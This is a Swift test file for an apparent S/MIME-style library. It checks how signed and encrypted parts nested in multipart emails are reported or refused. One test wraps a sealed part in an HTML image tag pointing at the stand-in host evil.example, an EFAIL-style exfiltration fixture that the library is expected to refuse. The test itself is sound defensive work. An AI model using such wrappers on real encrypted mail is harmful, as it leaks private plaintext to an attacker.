import Foundation
import Signet
import TestSupport
import Testing

/// Signed and sealed parts inside larger messages are reported for what they are, and make nothing good.
@Suite("Parts")
struct PartTests {
    private func part(_ mail: Bytes) throws -> String {
        let text = String(decoding: mail, as: UTF8.self)
        let start = try #require(text.range(of: "Content-Type: "))
        return String(text[start.lowerBound...])
    }

    private func around(_ part: String, before: String = "", after: String = "", list: Bool = false) -> [UInt8] {
        let header =
            "From: alice@example.org\r\nTo: bob@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
            + (list ? "List-Id: <tea.example.org>\r\n" : "") + "Content-Type: multipart/mixed; boundary=outer\r\n\r\n"
        let text = { (words: String) in words.isEmpty ? "" : "--outer\r\nContent-Type: text/plain\r\n\r\n\(words)\r\n" }
        return Array((header + text(before) + "--outer\r\n\(part)\r\n" + text(after) + "--outer--\r\n").utf8)
    }

    @Test("a signed part under a mailing list's footer")
    func isFromList() throws {
        let mail = around(try part(try Peers.alice.sign(Peers.letter)), after: "Tea mailing list", list: true)
        let report = try verify(mail, trusting: Peers.root)
        #expect(report.verdict == .unsigned)
        #expect(report.parts.count == 1 && report.parts[0].path == "1" && report.parts[0].isFromList)
        #expect(
            report.explanation.contains("is signed by alice@example.org, and a mailing list put other parts beside it"))
        #expect(report.text.contains("Part 1: multipart/signed"))
        guard case .signed(let layer)? = report.parts[0].layer else { throw CancellationError() }
        #expect(layer.signers[0].signature == .good && layer.signers[0].trusted == true)
    }

    @Test("a forwarded signed message, at any depth")
    func isForwarded() throws {
        let signed = String(decoding: try Peers.alice.sign(Peers.letter), as: UTF8.self)
        let mail = around("Content-Type: message/rfc822\r\n\r\n\(signed)", before: "See below.")
        let report = try verify(mail, trusting: Peers.root)
        #expect(report.verdict == .unsigned && report.parts.first?.path == "2.1")
        #expect(report.parts.first?.isForwarded == true)
        // Signed by somebody else around it: the whole is his, the part is hers.
        let outer = try Peers.bob.sign(mail)
        #expect(try verify(outer, trusting: Peers.root).verdict == .untrusted)
        #expect(try verify(outer, trusting: Peers.root).parts.count == 1)
    }

    @Test("a bad signature of a part is told, and nothing hides behind it")
    func isBad() throws {
        let changed = try part(try Peers.alice.sign(Peers.letter)).replacingOccurrences(of: "nine", with: "ten")
        let report = try verify(around(changed, after: "Footer"), trusting: Peers.root)
        #expect(report.verdict == .unsigned && report.explanation.contains("bears a bad signature"))
    }

    @Test("a sealed part that is not the whole message is not opened")
    func isNotOpened() throws {
        for cipher in [ContentCipher.aes256CBC, .aes256GCM] {
            let sealed = try part(try seal(Peers.letter, for: [Peers.bob.certificate], with: cipher))
            let mail = around(
                sealed, before: "<img src=\"https://evil.example/?", after: "\">")
            let error = try #require(throws: SignetError.self) { _ = try Peers.bob.open(mail) }
            guard case .refused(let reason) = error.kind else { throw error }
            #expect(reason.contains("part 2 is sealed"))
            // Without a key it can be looked at.
            #expect(try verify(mail, trusting: Peers.root).parts.first?.explanation == "is sealed")
        }
    }

    @Test("a signed or sealed part alone in a multipart is the whole message")
    func isWhole() throws {
        let signed = try verify(around(try part(try Peers.alice.sign(Peers.letter))), trusting: Peers.root)
        #expect(signed.verdict == .good && signed.parts.isEmpty)
        let mail = around(try part(try seal(try Peers.alice.sign(Peers.letter), for: [Peers.bob.certificate])))
        #expect(try Peers.bob.open(mail, trusting: Peers.root).report.verdict == .good)
    }

    @Test("a sealed message that was forwarded stays closed, and stops nothing")
    func staysClosed() throws {
        let sealed = String(decoding: try seal(Peers.letter, for: [Peers.bob.certificate]), as: UTF8.self)
        let mail = around("Content-Type: message/rfc822\r\n\r\n\(sealed)", before: "For you.")
        let opened = try Peers.bob.open(mail)
        #expect(opened.message != nil && opened.report.parts.first?.isForwarded == true)
    }
}
